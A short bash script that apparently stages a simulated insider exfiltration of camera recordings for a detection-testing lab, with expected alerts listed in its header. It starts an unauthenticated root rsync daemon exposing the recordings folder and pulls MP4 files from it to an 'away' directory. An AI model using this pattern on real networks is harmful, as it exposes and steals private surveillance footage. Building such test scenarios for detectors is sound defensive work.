#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=recording-export,new-listener half=tune tool=rsync far=out seconds=36 parts=dns,camera-gate,recorder-gate,nas,outside-web
# An insider starts an rsync daemon that shows the folder of recordings; from outside they are fetched in one go.
if [ "$1" = out ]; then sleep 18; mkdir -p "$LAB/away"; exec timeout 20 rsync -a --include='00[0-4].mp4' --exclude='*' rsync://10.30.0.2:8873/pub/ "$LAB/away/"; fi
sleep 10; printf 'use chroot = no\nuid = root\ngid = root\n[pub]\npath = %s\n' "$LAB/recordings/gate" >"$LAB/pub.conf"
timeout 22 rsync --daemon --no-detach --port=8873 --address=10.30.0.2 --config="$LAB/pub.conf"; [ "$(du -sb "$LAB/away" | cut -f1)" -gt 400000 ]
